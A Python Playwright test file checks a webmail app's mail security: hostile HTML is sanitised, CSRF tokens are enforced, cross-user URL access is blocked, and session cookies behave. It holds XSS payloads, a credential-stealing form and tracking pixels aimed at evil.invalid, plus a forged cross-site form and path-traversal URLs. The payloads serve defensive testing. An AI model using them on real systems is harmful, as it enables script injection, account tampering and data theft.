"""Security of the webmail's mail part, in headless Chromium against a running server.

- Hostile HTML mail (scripts, event handlers, ``javascript:``/``data:`` URLs, SVG with
  script, CSS tricks, meta refresh, forms, frames, object/embed, remote images, tracking
  pixels, base href) is shown without any script running, without any request to another
  host (remote images only after "Show images", and then images only), and without the top
  page navigating.
- Every POST refuses a missing or wrong CSRF token (403) and changes nothing; a form posted
  from another site arrives without the cookie (SameSite) and is refused; a login form from
  another origin is refused.
- A user cannot open another user's message by editing a URL (404).
- The session cookie is HttpOnly, SameSite=Lax, scoped to /webmail, and Secure over HTTPS.
- Logging out ends the session (a copy of the cookie no longer works); so does a password
  change through ``rmail user passwd``.

The remote host names end in ``.invalid`` (RFC 2606), so they resolve nowhere; every request
to a host but 127.0.0.1 is recorded and aborted before it leaves the browser anyway.
"""

from __future__ import annotations

import email.policy
import re
import subprocess
import sys
from collections.abc import Iterator
from email.message import EmailMessage
from typing import Final

import pytest
from conftest import clean_env
from playwright.sync_api import Browser, Page
from webmail_helpers import (
    PageRecorder,
    WebmailServer,
    launch_chromium,
    login,
    new_page,
    start_webmail_server,
)

VICTIM = ("victim@example.test", "victim-pw")
BOB = ("bob@example.test", "bob-pw")
EVE = ("eve@example.test", "eve-pw")
SECRET: Final = "bob-secret-7f3a"
EVIL: Final = "evil.invalid"
# What a script that ran would leave behind: a dialog, a console line with this marker,
# a request to EVIL, or a navigation of the top page.
MARK: Final = "PWNED"

HOSTILE: Final[dict[str, str]] = {
    "script tags": f"<p>hi</p><script>alert('{MARK}');console.log('{MARK}')</script>"
    f"<script src='http://{EVIL}/x.js'></script>",
    "event handlers": f"<img src=x onerror=\"alert('{MARK}')\"><body onload=\"alert('{MARK}')\">"
    f"<div onmouseover=\"console.log('{MARK}')\">hover</div>"
    f"<svg onload=\"alert('{MARK}')\"></svg>",
    "javascript urls": f"<a href=\"javascript:alert('{MARK}')\">click</a>"
    f"<a href=\"JaVaScRiPt:alert('{MARK}')\">again</a>"
    f"<img src=\"javascript:alert('{MARK}')\">"
    f"<a href=\"java&#x09;script:alert('{MARK}')\">tab</a>",
    "data urls": f"<a href=\"data:text/html,<script>alert('{MARK}')</script>\">data</a>"
    f"<iframe src=\"data:text/html,<script>alert('{MARK}')</script>\"></iframe>"
    f'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "svg with script": f"<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{MARK}')"
    f"</script><foreignObject><iframe src='http://{EVIL}/f'></iframe></foreignObject>"
    f"<image href='http://{EVIL}/svg.png'/></svg>",
    "css tricks": f"<style>@import url(http://{EVIL}/a.css); body {{ background: "
    f"url(http://{EVIL}/bg.png) }} @font-face {{ font-family: x; src: "
    f"url(http://{EVIL}/f.woff) }} p {{ font-family: x }}</style>"
    f"<link rel=stylesheet href='http://{EVIL}/s.css'>"
    f"<div style=\"background-image: url('http://{EVIL}/div.png')\">styled</div>"
    f"<p style=\"behavior: url(http://{EVIL}/x.htc); width: expression(alert('{MARK}'))\">x</p>",
    "meta refresh": f"<meta http-equiv=refresh content='0; url=http://{EVIL}/refresh'>"
    f"<meta http-equiv=refresh content=\"0; url=javascript:alert('{MARK}')\">refresh",
    "forms": f"<form action='http://{EVIL}/steal' method=post><input name=password "
    f"value=hunter2><button id=go>Log in again</button></form>"
    f"<form action='/webmail/logout' method=post><button>out</button></form>",
    "frames": f"<iframe src='http://{EVIL}/frame'></iframe><frameset><frame "
    f"src='http://{EVIL}/frame2'></frameset><iframe srcdoc=\"<script>alert('{MARK}')</script>\">",
    "object and embed": f"<object data='http://{EVIL}/x.swf'></object>"
    f"<embed src='http://{EVIL}/x.swf'><applet code=x></applet>",
    "remote images and tracking pixels": f"<img src='http://{EVIL}/pixel.gif' width=1 height=1>"
    f"<img src='https://{EVIL}/track.png?u=victim'><img srcset='http://{EVIL}/s.png 2x'>"
    f"<picture><source srcset='http://{EVIL}/p.webp'><img src='//{EVIL}/pr.png'></picture>"
    f"<video poster='http://{EVIL}/poster.png'></video><audio src='http://{EVIL}/a.mp3'>",
    "base href": f"<base href='http://{EVIL}/'><img src='relative.png'><a href='rel'>rel</a>",
}


def _hostile(name: str, html: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Mallory <mallory@{EVIL}>"
    msg["To"] = VICTIM[0]
    msg["Subject"] = f"Hostile: {name}"
    msg["Message-ID"] = f"<{name.replace(' ', '-')}@{EVIL}>"
    msg.set_content("text part")
    msg.add_alternative(html, subtype="html")
    return msg.as_bytes(policy=email.policy.SMTP)


def _plain(sender: str, to: str, subject: str, body: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, to, subject
    msg.set_content(body)
    return msg.as_bytes(policy=email.policy.SMTP)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launch_chromium() as b:
        yield b


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebmailServer]:
    users = {u: (p, False) for u, p in (VICTIM, BOB, EVE)}
    with start_webmail_server(
        tmp_path_factory.mktemp("wm-sec"), users, auth={"max_failures": 1000}
    ) as s:
        yield s


@pytest.fixture(scope="module")
def hostile_uids(server: WebmailServer) -> dict[str, int]:
    inbox = server.store.mailbox(VICTIM[0]).folder("INBOX")
    uids = {name: inbox.append(_hostile(name, html)).uid for name, html in HOSTILE.items()}
    subject = f"<img src=x onerror=\"alert('{MARK}')\"><script>alert('{MARK}')</script>"
    uids["hostile subject"] = inbox.append(
        _plain(f"\"<b onmouseover=alert('{MARK}')>\" <m@{EVIL}>", VICTIM[0], subject, "hi")
    ).uid
    return uids


def _assert_nothing_ran(page: Page, record: PageRecorder, allowed: tuple[str, ...]) -> None:
    assert not record.dialogs, record.dialogs
    assert not [c for c in record.console if MARK in c], record.console
    assert not record.popups, record.popups
    leaked = [r for r in record.remote if not r.startswith(allowed)]
    assert not leaked, leaked
    wrong = [u for u in record.navigations if not u.startswith("http://127.0.0.1:")]
    assert not wrong, wrong
    assert page.evaluate("window.name") == ""


@pytest.mark.parametrize("images", [False, True], ids=["images-blocked", "images-shown"])
def test_hostile_html_runs_no_script_and_sends_no_request(
    server: WebmailServer, browser: Browser, hostile_uids: dict[str, int], images: bool
) -> None:
    context, page, record = new_page(browser)
    try:
        login(page, server, *VICTIM)
        page.wait_for_load_state("load")
        _assert_nothing_ran(page, record, ())  # the list, with the hostile subject
        assert MARK in page.inner_text("section.message-list")  # shown as text
        for name, uid in hostile_uids.items():
            url = server.mail_url("INBOX", str(uid)) + ("?images=1" if images else "")
            page.goto(url, wait_until="load")
            assert page.url == url, name
            if name != "hostile subject":
                frame = page.frame_locator("iframe.html-body")
                frame.locator("body").wait_for(state="attached")
            # Timers, refreshes and lazy loads would have their chance in this time.
            page.wait_for_timeout(300)
            assert page.url == url, name
            # With images shown, remote images may load (and are aborted here); nothing else.
            _assert_nothing_ran(page, record, ("image ",) if images else ())
        if images:  # proof that the recorder sees what the page asks for
            assert any(f"image http://{EVIL}/pixel.gif" == r for r in record.remote)
        # The frame's document opened on its own (a link in a mail, say) is under its CSP:
        # sandboxed, no script.
        record.remote.clear()
        body = server.mail_url("INBOX", str(hostile_uids["script tags"]), "body")
        page.goto(body, wait_until="load")
        page.wait_for_timeout(300)
        _assert_nothing_ran(page, record, ())
    finally:
        context.close()


def test_the_message_frame_is_sandboxed_under_a_strict_csp(
    server: WebmailServer, browser: Browser, hostile_uids: dict[str, int]
) -> None:
    context, page, _ = new_page(browser)
    try:
        login(page, server, *VICTIM)
        uid = hostile_uids["remote images and tracking pixels"]
        page.goto(server.mail_url("INBOX", str(uid)))
        sandbox = page.get_attribute("iframe.html-body", "sandbox") or ""
        assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
        assert "Remote images are blocked" in page.inner_text(".msg-body")
        answer = page.request.get(server.mail_url("INBOX", str(uid), "body"))
        csp = answer.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp
        assert "img-src 'self' data:" in csp
        assert EVIL not in re.sub(r'data-blocked-src="[^"]*"', "", answer.text())
        shown = page.request.get(server.mail_url("INBOX", str(uid), "body") + "?images=1")
        assert "img-src 'self' https: http: data:" in shown.headers["content-security-policy"]
        page_csp = page.request.get(server.mail_url("INBOX")).headers["content-security-policy"]
        assert "script-src 'self'" in page_csp and "object-src 'none'" in page_csp
    finally:
        context.close()


# -- CSRF --------------------------------------------------------------------------------------


def _post_routes(page: Page, server: WebmailServer, uid: int) -> dict[str, dict[str, str]]:
    """Every POST form the mail pages show (action -> a harmless but valid body), plus the
    routes known to take POSTs; the forms are collected so that a new one is covered too."""
    routes = {
        server.url("/logout"): {},
        server.url("/folders"): {"action": "create", "name": "Csrf"},
        server.mail_url("INBOX", "actions"): {"action": "delete", "uid": str(uid)},
        server.url("/compose"): {"to": BOB[0], "subject": "csrf", "body": "x", "save": "send"},
        server.url("/calendar/events"): {"title": "csrf", "start_date": "2026-01-01"},
        server.url("/calendar/calendars"): {"action": "create", "title": "Csrf"},
        server.url("/calendar/invitation"): {"answer": "ACCEPTED"},
        server.url("/drive/"): {"action": "mkdir", "name": "Csrf"},
        server.url("/drive-shares"): {"action": "revoke"},
        server.url("/settings"): {"action": "profile", "display_name": "Csrf"},
        server.url("/admin"): {"action": "create"},
    }
    pages = ("/mail/INBOX", f"/mail/INBOX/{uid}", "/compose", "/calendar/month", "/drive/",
             "/drive-shares", "/settings")  # fmt: skip
    for path in pages:
        page.goto(server.url(path))
        actions = page.eval_on_selector_all(
            "form[method=post]", "fs => fs.map(f => f.getAttribute('action'))"
        )
        for action in actions:
            routes.setdefault(action, {})
    return routes


def test_every_post_without_a_valid_csrf_token_is_refused(
    server: WebmailServer, browser: Browser
) -> None:
    inbox = server.store.mailbox(EVE[0]).folder("INBOX")
    uid = inbox.append(_plain("a@remote.test", EVE[0], "Keep me", "x")).uid
    context, page, _ = new_page(browser)
    try:
        login(page, server, *EVE)
        routes = _post_routes(page, server, uid)
        assert len(routes) >= 4, routes
        for url, fields in routes.items():
            for csrf in (None, "", "forged-token"):
                form = dict(fields) if csrf is None else {**fields, "csrf": csrf}
                answer = page.request.post(url, form=form, max_redirects=0)
                assert answer.status == 403, (url, csrf, answer.status)
            answer = page.request.post(
                url, multipart={**fields, "csrf": "forged-token"}, max_redirects=0
            )
            assert answer.status == 403, (url, "multipart")
        # Nothing happened: still logged in, message still there, no folder, nothing sent.
        page.goto(server.mail_url("INBOX"))
        assert page.inner_text("span.current-user") == EVE[0]
        assert uid in [m.uid for m in _metas(inbox)]
        assert not server.store.mailbox(EVE[0]).exists("Csrf")
        # And the same request with the page's own token works (the 403s were the token's).
        token = page.get_attribute("form.bulk input[name=csrf]", "value")
        assert token
        answer = page.request.post(
            server.mail_url("INBOX", "actions"),
            form={"action": "star", "uid": str(uid), "csrf": token},
            max_redirects=0,
        )
        assert answer.status == 303
    finally:
        context.close()


def _metas(folder: object) -> list[object]:
    index = folder.refresh()  # type: ignore[attr-defined]
    return [index.meta_at(p) for p in range(len(index))]


def test_a_form_posted_from_another_site_is_refused(
    server: WebmailServer, browser: Browser
) -> None:
    inbox = server.store.mailbox(EVE[0]).folder("INBOX")
    uid = inbox.append(_plain("a@remote.test", EVE[0], "Do not delete", "x")).uid
    context, page, _ = new_page(browser)
    try:
        login(page, server, *EVE)
        token = page.get_attribute("form.bulk input[name=csrf]", "value") or ""
        attacker = f"http://attacker.{EVIL}/"
        # Even with the right token (say it leaked), the cookie does not come along.
        html = (
            f"<form id=f method=post action='{server.mail_url('INBOX', 'actions')}'>"
            f"<input name=csrf value='{token}'><input name=action value=delete>"
            f"<input name=uid value='{uid}'></form>"
            "<script>document.getElementById('f').submit()</script>"
        )
        page.route(attacker, lambda r: r.fulfill(status=200, content_type="text/html", body=html))
        with page.expect_response(lambda r: r.request.method == "POST") as answer:
            page.goto(attacker)
        assert answer.value.status == 403
        assert uid in [m.uid for m in _metas(inbox)]  # type: ignore[attr-defined]

        login_html = (
            f"<form id=f method=post action='{server.url('/login')}'>"
            f"<input name=username value='{EVE[0]}'><input name=password value='{EVE[1]}'>"
            "</form><script>document.getElementById('f').submit()</script>"
        )
        page.route(
            attacker + "login",
            lambda r: r.fulfill(status=200, content_type="text/html", body=login_html),
        )
        with page.expect_response(lambda r: r.request.method == "POST") as answer:
            page.goto(attacker + "login")
        assert answer.value.status == 403
    finally:
        context.close()


# -- another user's mail -----------------------------------------------------------------------


def test_a_user_cannot_open_another_users_message_by_editing_the_url(
    server: WebmailServer, browser: Browser
) -> None:
    bob = server.store.mailbox(BOB[0]).folder("INBOX")
    for i in range(5):
        bob.append(_plain("x@remote.test", BOB[0], f"filler {i}", "x"))
    secret_uid = bob.append(_plain("x@remote.test", BOB[0], SECRET, f"{SECRET} body")).uid
    context, page, _ = new_page(browser)
    try:
        login(page, server, *EVE)
        paths = [
            f"/mail/INBOX/{secret_uid}",
            f"/mail/INBOX/{secret_uid}/body",
            f"/mail/INBOX/{secret_uid}/attachment/1",
            f"/mail/INBOX/{secret_uid}/part/1",
            f"/compose?reply={secret_uid}",
            f"/compose?forward={secret_uid}&folder=INBOX",
            "/mail/..%2F..%2Fbob%40example.test",
            f"/mail/..%2F..%2Fbob%40example.test%2Fmail/{secret_uid}",
            f"/mail/%2E%2E%2Fbob/{secret_uid}",
            f"/mail/..%2Fbob%40example.test/{secret_uid}/body",
            f"/compose?reply={secret_uid}&folder=..%2F..%2Fbob%40example.test%2Fmail",
            "/mail/INBOX/0",
            "/mail/INBOX/-1",
            "/mail/INBOX/99999999999",
            "/mail/INBOX/abc",
            "/mail/NoSuchFolder",
        ]
        for path in paths:
            answer = page.request.get(server.url(path), max_redirects=0)
            assert answer.status == 404, (path, answer.status)
            assert SECRET not in answer.text(), path
    finally:
        context.close()


# -- the session -------------------------------------------------------------------------------


@pytest.mark.parametrize("secure", [False, True], ids=["http", "https"])
def test_session_cookie_flags(server: WebmailServer, browser: Browser, secure: bool) -> None:
    context, page, _ = new_page(browser, ignore_https_errors=True)
    try:
        page.goto(server.url("/login", secure=secure))
        page.fill("input[name=username]", EVE[0])
        page.fill("input[name=password]", EVE[1])
        with page.expect_response(lambda r: r.request.method == "POST") as answer:
            page.click("button[type=submit]")
        # .headers leaves cookie headers out; header_value() has them.
        header = answer.value.header_value("set-cookie") or ""
        attributes = {a.strip().split("=")[0].lower() for a in header.split(";")[1:]}
        assert {"httponly", "samesite", "path", "max-age"} <= attributes
        assert "SameSite=Lax" in header and "Path=/webmail" in header
        assert ("secure" in attributes) is secure
        (cookie,) = context.cookies()
        assert cookie["name"] == "rmail_session"
        assert cookie["httpOnly"] is True and cookie["sameSite"] == "Lax"
        assert cookie["secure"] is secure and cookie["path"] == "/webmail"
        assert page.evaluate("document.cookie") == ""
        assert page.url == server.mail_url("INBOX", secure=secure)
    finally:
        context.close()


def test_logout_ends_the_session_and_a_copy_of_the_cookie(
    server: WebmailServer, browser: Browser
) -> None:
    context, page, _ = new_page(browser)
    try:
        login(page, server, *EVE)
        (copy,) = context.cookies()
        with page.expect_navigation():
            page.click("header.topbar form button[type=submit]")
        assert page.url == server.url("/login")
        assert context.cookies() == []
        page.goto(server.mail_url("INBOX"))
        assert page.url.startswith(server.url("/login?next="))
        context.add_cookies([copy])  # type: ignore[list-item]
        page.goto(server.mail_url("INBOX"))
        assert page.url.startswith(server.url("/login?next="))
        answer = page.request.post(server.url("/logout"), form={"csrf": "x"}, max_redirects=0)
        assert answer.status == 403
    finally:
        context.close()


def test_a_password_change_ends_the_session(server: WebmailServer, browser: Browser) -> None:
    address, password = "temp@example.test", "old-pw"
    server.store.create_user(address, password)
    context, page, _ = new_page(browser)
    try:
        login(page, server, address, password)
        assert page.inner_text("span.current-user") == address
        done = subprocess.run(
            [
                *(sys.executable, "-m", "rmail", "user", "passwd", address),
                *("--password", "new-pw", "--config", str(server.api.server.config_path)),
            ],
            env=clean_env(),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        page.goto(server.mail_url("INBOX"))
        assert page.url.startswith(server.url("/login?next="))
        login(page, server, address, "new-pw")
        assert page.inner_text("span.current-user") == address
    finally:
        context.close()
